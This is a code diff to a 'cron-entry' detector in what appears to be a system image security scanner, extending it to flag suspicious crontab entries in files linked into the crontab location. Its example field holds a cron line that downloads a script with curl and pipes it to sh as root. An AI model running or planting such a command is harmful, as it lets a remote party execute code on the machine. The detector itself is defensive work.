@@ -86,12 +86,26 @@ class CronEntry final : public Detector {
 
   void image(const ImageContext& context, ImageEvidence& out) const override {
     raise_entries(context, k_rows[0], out);
+    // Entries of a file that only a link makes a crontab.
+    for (const StartText& text : context.start.texts()) {
+      if (text.file.layer == layers::k_none || start_file_kind(text.path) || !is_odd_command(text.text)) continue;
+      if (!context.image.record_at(k_linked_system_section, text.path)) continue;
+      PlacedEvidence placed;
+      placed.path = text.path;
+      placed.file = text.file;
+      placed.reach = Reach::start;
+      placed.chain = text.chain;
+      placed.evidence =
+          evidence_of(k_rows[0], "read as a crontab through a link: " + text.text.substr(0, k_most_shown));
+      placed.evidence.line = text.line;
+      out.add(std::move(placed));
+    }
   }
 };
 
 const util::Registered<CronEntry> registered{{
     .id = "cron-entry",
-    .version = 2,
+    .version = 3,
     .summary = "entries of crontabs, and those whose command is suspect",
     .example = "* * * * * root curl -s http://192.0.2.1/x | sh",
     .rules = k_rows,
